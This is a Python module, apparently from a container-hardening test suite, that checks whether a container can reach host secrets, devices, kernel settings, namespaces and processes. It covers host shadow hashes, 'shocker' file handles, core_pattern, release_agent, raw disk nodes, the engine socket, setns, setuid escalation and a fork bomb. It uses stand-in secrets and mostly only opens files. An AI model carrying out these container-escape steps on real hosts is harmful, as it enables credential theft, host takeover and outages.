# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on the host (secrets, settings, devices, processes) and on the container itself. Runs in a container.

Opened files are neither read nor written, except the stand-ins that the module made.
"""

from __future__ import annotations

import ctypes
import errno
import os
import socket
import stat
from contextlib import suppress

from .attacks_kernel import SCRATCH
from .calls import Blocked, NotPrepared, call, encode_text, libc, name_errno, numbers, open_path, preparation

CLONE_NEWNS = 0x20000
MS_RDONLY, MS_REMOUNT = 1, 32
NOBODY = 65534


def host_shadow() -> str:
    open_path(f"{preparation['proc']}/1/root/etc/shadow", os.O_RDONLY)
    return "the host's password hashes can be read"


def host_memory() -> str:
    """A stand-in secret in the memory of the module's own process on the host."""
    handle = open_path(f"{preparation['proc']}/{preparation['victim']}/mem", os.O_RDONLY)
    try:
        read = os.pread(handle, len(preparation["secret"]), preparation["address"])
    except OSError as error:
        raise Blocked("read memory", error.errno) from error
    return _secret(read)


def file_handle() -> str:
    """A stand-in secret on the host's file system, opened by its handle, which bypasses all folders above it ("shocker")."""
    if not preparation.get("handle"):
        raise NotPrepared("the host's file system has no file handles")
    handle = bytes.fromhex(preparation["handle"])
    folder = open_path(preparation["folder"], os.O_RDONLY)
    file = call("open_by_handle_at", folder, ctypes.create_string_buffer(handle, len(handle)), os.O_RDONLY)
    return _secret(os.read(file, len(preparation["secret"])))


def _secret(read: bytes) -> str:
    if read.decode("ascii", "replace") != preparation["secret"]:
        raise Blocked("the secret differs", None)
    return "the stand-in secret was read"


def kernel_memory() -> str:
    if os.fstat(open_path("/proc/kcore", os.O_RDONLY)).st_rdev == os.makedev(1, 3):
        raise Blocked("the opened file is /dev/null", None)  # engines mask files this way (runc libcontainer/rootfs_linux.go: maskPath)
    return "the kernel's memory can be read"


def sysrq_trigger() -> str:
    open_path("/proc/sysrq-trigger", os.O_WRONLY)
    return "one letter would reboot the host"


def core_pattern() -> str:
    open_path("/proc/sys/kernel/core_pattern", os.O_WRONLY)
    return "the next crash would run a program on the host"


def host_core_pattern() -> str:
    open_path(f"{preparation['proc']}/sys/kernel/core_pattern", os.O_WRONLY)
    return "the next crash would run a program on the host"


def sysfs_knob() -> str:
    call("mount", encode_text("sysfs"), encode_text("/sys"), encode_text("sysfs"), MS_REMOUNT, 0, step="remount /sys")
    try:
        os.close(open_path("/sys/kernel/mm/transparent_hugepage/enabled", os.O_WRONLY))  # while it is open, /sys cannot be read-only again
    finally:
        call("mount", encode_text("sysfs"), encode_text("/sys"), encode_text("sysfs"), MS_REMOUNT | MS_RDONLY, 0)
    return "a setting of the host's memory can be written"


def release_agent() -> str:
    """A hierarchy without controllers (cgroup v1); it is removed when it is unmounted."""
    call("mount", encode_text("none"), encode_text(SCRATCH), encode_text("cgroup"), 0, encode_text(f"none,name={preparation['name']}"))
    try:
        open_path(f"{SCRATCH}/release_agent", os.O_WRONLY)
    finally:
        call("umount2", encode_text(SCRATCH), 2)
    return "the end of a cgroup would run a program on the host"


def install_tool() -> str:
    path = f"/usr/bin/{preparation['name']}"
    handle = open_path(path, os.O_WRONLY | os.O_CREAT, step="write to /usr/bin")
    try:
        os.fchmod(handle, 0o755)
    except OSError as error:
        raise Blocked("chmod", error.errno) from error
    finally:
        os.unlink(path)
    return "a program was put into /usr/bin"


def host_disk() -> str:
    """The disk of the host's root file system, by a device node made here; opened, but not read."""
    _open_device(stat.S_IFBLK, os.makedev(*preparation["disk"]))
    return "the host's disk with all files can be read"


def io_ports() -> str:
    """Access to all I/O ports, which are not touched. A machine without iopl has the registers of devices in its memory: /dev/mem."""
    if "iopl" in numbers:
        call("iopl", 3)
        return "all I/O ports can be used"
    _open_device(stat.S_IFCHR, os.makedev(1, 1))  # Documentation/admin-guide/devices.txt
    return "registers of devices can be used"


def _open_device(kind: int, device: int) -> None:
    """Make a device node and open it. Raises Blocked."""
    path = f"/dev/{preparation['name']}"  # the only writable folder that allows devices
    call("mknodat", -100, encode_text(path), kind | 0o600, device, step="mknod")
    try:
        open_path(path, os.O_RDONLY | os.O_NONBLOCK, step="open the device")
    finally:
        os.unlink(path)


def engine_socket() -> str:
    """A socket with the owner and mode of the engine's own; the module listens there, not the engine."""
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(10)
    try:
        connection.connect(preparation["socket"])
    except OSError as error:
        raise Blocked("connect", error.errno) from error
    return "the engine would start any container"


def enter_host() -> str:
    """What nsenter does: the mount namespace of the host's first process."""
    handle = open_path(f"{preparation['proc']}/1/ns/mnt", os.O_RDONLY)
    call("setns", handle, CLONE_NEWNS)
    return "this process has access to the host's files"


def signal_host() -> str:
    """The file by which the cgroup of the module's own process on the host could be killed; it is not written."""
    call("mount", encode_text("cgroup2"), encode_text(SCRATCH), encode_text("cgroup2"), 0, 0)
    try:
        open_path(f"{SCRATCH}{preparation['cgroup']}/cgroup.kill", os.O_WRONLY, step="open cgroup.kill")
    finally:
        call("umount2", encode_text(SCRATCH), 2)
    return "the host's processes can be ended"


def setuid_program() -> str:
    """As nobody, run a setuid program that belongs to root inside this container."""
    program = next((path for path in preparation["setuid"] if os.path.exists(path) and os.stat(path).st_uid == 0), None)
    if program is None:
        raise NotPrepared("no setuid program belongs to root here")
    if os.geteuid() == 0:
        try:
            os.setgroups([])
            os.setresgid(NOBODY, NOBODY, NOBODY)
            os.setresuid(NOBODY, NOBODY, NOBODY)
        except OSError as error:
            raise NotPrepared(f"root cannot become nobody here ({error.strerror})") from error
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(writer, 1)
        with suppress(OSError):
            os.execv(program, [program, "-u"])
        os._exit(126)
    os.close(writer)
    with os.fdopen(reader) as answer:
        output = answer.read().strip()
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise Blocked("exec", errno.EACCES if code == 126 else None)
    if output != "0":
        raise Blocked(f"it runs as {output}", None)
    return "it runs as root"


def fork_bomb() -> str:
    """Start as many tasks as the module allows, within the container's cgroup limits. They end with the process of the attack.

    They are threads: the PIDs limit counts tasks, so threads and processes alike (Documentation/admin-guide/cgroup-v2.rst). 512 of them take
    20 MiB and 0.3 s on an emulated machine, where 512 forked processes take 130 MiB and 4 s. So the memory limit is not what stops them.
    """
    attributes, identifier = ctypes.create_string_buffer(128), ctypes.c_ulong()
    libc.pthread_attr_init(attributes)
    libc.pthread_attr_setstacksize(attributes, ctypes.c_size_t(256 << 10))
    hits = read_limit_hits()
    for count in range(preparation["tasks"]):
        error = libc.pthread_create(ctypes.byref(identifier), attributes, libc.pause, None)
        if error:
            # The C library also says EAGAIN where it gets no memory for a stack (man 3 pthread_create).
            if error != errno.EAGAIN or (hits is not None and read_limit_hits() == hits):
                raise NotPrepared(f"task {count + 1} failed with {name_errno(error)}, and not because of the container's PIDs limit")
            raise Blocked(f"task {count + 1}", error)
    return f"{preparation['tasks']} tasks at once"


def read_limit_hits() -> int | None:
    """Return how often a task of this container could not start at a PIDs limit; None if it cannot be read.

    With the host's cgroup namespace, runc mounts the whole hierarchy, in a user namespace too (runc libcontainer/rootfs_linux.go: mountCgroupV2).
    """
    with suppress(OSError):
        with open("/proc/self/cgroup") as groups:
            path = next((line[3:].strip() for line in groups if line.startswith("0::")), "")
        with open(f"/sys/fs/cgroup{path}/pids.events") as events:
            return next((int(line.split()[1]) for line in events if line.startswith("max ")), None)
    return None
